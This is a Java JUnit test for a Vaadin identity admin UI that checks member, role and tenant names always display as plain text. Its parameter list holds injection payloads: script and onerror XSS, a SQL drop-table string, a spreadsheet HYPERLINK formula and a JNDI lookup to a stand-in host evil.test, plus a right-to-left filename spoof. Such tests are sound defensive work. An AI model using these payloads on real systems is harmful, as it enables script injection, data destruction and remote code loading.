package com.martlet.identity.ui;

import static org.assertj.core.api.Assertions.assertThat;

import com.martlet.identity.Actor;
import com.martlet.identity.MemberDraft;
import com.martlet.identity.MemberDraft.PersonalData;
import com.martlet.identity.MemberService;
import com.martlet.identity.Role;
import com.martlet.identity.RoleDraft;
import com.martlet.identity.RoleService;
import com.martlet.identity.TenantService;
import com.martlet.identity.TenantSettings;
import com.vaadin.flow.component.UI;
import com.vaadin.flow.dom.Element;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Names that are code, formulas or foreign scripts elsewhere are text here. */
class NaughtyNamesTest extends PeopleScreens {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "=HYPERLINK(\"http://evil.test\")",
                "'; drop table users; --",
                "${jndi:ldap://evil.test/a}",
                "{0} {1}",
                "👩‍👩‍👧‍👦 김민지",
                "‮gnp.exe",
                "Ω≈ç√∫ ﷽ ｡◕‿◕｡"
            })
    void areShownAsText(String name) {
        nameEverythingLike(name);
        signIn(administrator);

        for (var screen : Set.of("members", "roles", "settings", "account")) {
            openedInTheTenant(screen);
            assertThat(page()).as(screen).contains(name);
            assertThat(allOf(UI.getCurrent())).noneMatch(one -> one.hasProperty("innerHTML"));
        }
    }

    private void nameEverythingLike(String name) {
        var martlet = Actor.martlet(tenant);
        var email = "n" + System.nanoTime() + "@shop.test";
        context.getBean(MemberService.class)
                .add(
                        tenant,
                        martlet,
                        new MemberDraft(email, name, Role.VIEWER, PersonalData.MASKED));
        context.getBean(RoleService.class)
                .create(tenant, martlet, new RoleDraft(name, Set.of("VIEWER"), Set.of()));
        var now = TenantSettings.of(tenant);
        context.getBean(TenantService.class)
                .change(
                        tenant,
                        martlet,
                        new TenantSettings(
                                name,
                                now.zone(),
                                now.currency(),
                                now.language(),
                                now.weekStart(),
                                now.businessNow()));
    }

    private static Stream<Element> allOf(UI ui) {
        return ui.getInternals().getActiveRouterTargetsChain().stream()
                .flatMap(target -> below(target.getElement()));
    }

    private static Stream<Element> below(Element element) {
        return Stream.concat(
                Stream.of(element), element.getChildren().flatMap(NaughtyNamesTest::below));
    }
}
